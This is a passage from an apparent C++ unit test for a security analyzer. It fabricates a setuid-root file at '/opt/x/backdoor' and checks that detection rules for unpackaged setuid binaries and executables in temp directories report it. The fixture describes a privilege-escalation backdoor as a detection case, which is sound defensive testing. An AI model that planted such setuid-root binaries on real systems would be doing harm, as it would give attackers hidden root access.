    auto& f = *r.mutable_file_entry();
    f.set_path("/opt/x/backdoor");
    f.set_mode(0104755);
    f.set_uid(0);
    f.add_flags("suid");
  });
  auto res = b.analyze();
  auto suid = with_rule(res, "HZ-FILE-SUID-UNPACKAGED");
  REQUIRE(suid.size() == 1);
  CHECK(suid[0]->summary().find("20001 set-uid") != std::string::npos);
  CHECK(suid[0]->summary().find("/opt/x/backdoor (uid 0)") != std::string::npos);
  CHECK(suid[0]->evidence_size() == 50);
  auto temp = with_rule(res, "HZ-FILE-EXEC-IN-TEMP");
  CHECK(temp.size() < 6000);
  CHECK(std::any_of(temp.begin(), temp.end(), [](const auto* f) { return f->subject() == "(other places)"; }));
  CHECK(res.summary.findings_left_out() == 0);
}
